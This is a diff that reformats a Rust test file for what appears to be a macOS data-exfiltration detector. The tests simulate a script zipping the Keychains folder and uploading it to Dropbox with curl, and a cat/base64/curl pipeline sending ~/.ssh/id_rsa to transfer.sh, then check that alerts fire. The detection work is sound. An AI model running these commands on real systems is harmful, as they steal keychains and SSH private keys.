@@ -12,19 +12,38 @@ const SHELL: &[&str] = &["-zsh"];
 #[test]
 fn m01_archive_of_keychains_sent_by_curl() {
     let mut w = World::new();
-    let script = w.launch(0.0, apple("/usr/bin/osascript", "com.apple.osascript"), &["osascript", "-e", "do shell script"]);
-    let ditto = w.spawn(1.0, &script, DITTO, &["ditto", "-c", "-k", "/Users/alice/Library/Keychains", "/tmp/out.zip"]);
+    let script = w.launch(
+        0.0,
+        apple("/usr/bin/osascript", "com.apple.osascript"),
+        &["osascript", "-e", "do shell script"],
+    );
+    let ditto = w.spawn(
+        1.0,
+        &script,
+        DITTO,
+        &["ditto", "-c", "-k", "/Users/alice/Library/Keychains", "/tmp/out.zip"],
+    );
     w.open(1.1, &ditto, "/Users/alice/Library/Keychains/login.keychain-db");
     w.write(1.2, &ditto, "/private/tmp/out.zip");
     w.exit(1.5, &ditto);
-    let curl = w.spawn(2.0, &script, CURL, &["curl", "-F", "file=@/tmp/out.zip", "https://content.dropboxapi.com/2/files/upload"]);
+    let curl = w.spawn(
+        2.0,
+        &script,
+        CURL,
+        &["curl", "-F", "file=@/tmp/out.zip", "https://content.dropboxapi.com/2/files/upload"],
+    );
     w.open(2.1, &curl, "/private/tmp/out.zip");
     w.upload(2.2, &curl, "content.dropboxapi.com", 50_000);
     let told = w.tell();
     let alert = told.alert();
     assert_eq!(alert.uploader.info.program.path.to_string(), "/usr/bin/curl");
     assert_eq!(alert.reads[0].path.to_string(), "/Users/alice/Library/Keychains/login.keychain-db");
-    assert!(alert.reads.iter().any(|read| read.path.to_string() == "/private/tmp/out.zip" && read.evidence.as_str() == "taint"));
+    assert!(
+        alert
+            .reads
+            .iter()
+            .any(|read| read.path.to_string() == "/private/tmp/out.zip" && read.evidence.as_str() == "taint")
+    );
     assert!(alert.hops.iter().any(|hop| hop.kind.as_str() == "stage"));
     assert!(alert.bytes_out >= 50_000, "{}", alert.bytes_out);
     assert_eq!(alert.service.as_deref(), Some("dropbox"));
@@ -80,9 +99,26 @@ fn m07_pipeline() {
     let shell = w.launch(0.0, ZSH, SHELL);
     let env = &["HOME=/Users/alice"];
     let (a, b, c) = (w.fork(1.0, &shell), w.fork(1.001, &shell), w.fork(1.002, &shell));
-    let cat = w.exec_in(1.01, &a, apple("/bin/cat", "com.apple.cat"), &["cat", ".ssh/id_rsa"], "null", &[(1, 11)], env);
-    let _base64 = w.exec_in(1.011, &b, apple("/usr/bin/base64", "com.apple.base64"), &["base64"], "null", &[(0, 11), (1, 12)], env);
-    let curl = w.exec_in(1.012, &c, CURL, &["curl", "-d", "@-", "https://transfer.sh/"], "null", &[(0, 12)], env);
+    let cat = w.exec_in(
+        1.01,
+        &a,
+        apple("/bin/cat", "com.apple.cat"),
+        &["cat", ".ssh/id_rsa"],
+        "null",
+        &[(1, 11)],
+        env,
+    );
+    let _base64 = w.exec_in(
+        1.011,
+        &b,
+        apple("/usr/bin/base64", "com.apple.base64"),
+        &["base64"],
+        "null",
+        &[(0, 11), (1, 12)],
+        env,
+    );
+    let curl =
+        w.exec_in(1.012, &c, CURL, &["curl", "-d", "@-", "https://transfer.sh/"], "null", &[(0, 12)], env);
     w.open(1.02, &cat, "/Users/alice/.ssh/id_rsa");
     w.upload(1.2, &curl, "transfer.sh", 5_000);
     let told = w.tell();
@@ -215,7 +251,11 @@ fn m21_copied_into_an_app() {
 #[test]
 fn m23_invalidated_code() {
     let mut w = World::new();
-    let arq = vendor("/Applications/Arq.app/Contents/MacOS/ArqAgent", "com.haystacksoftware.arqagent", "48ZCSDVL96");
+    let arq = vendor(
+        "/Applications/Arq.app/Contents/MacOS/ArqAgent",
+        "com.haystacksoftware.arqagent",
+        "48ZCSDVL96",
+    );
     let p = w.launch(0.0, arq, &["ArqAgent"]);
     w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
     w.invalidated(1.5, &p);
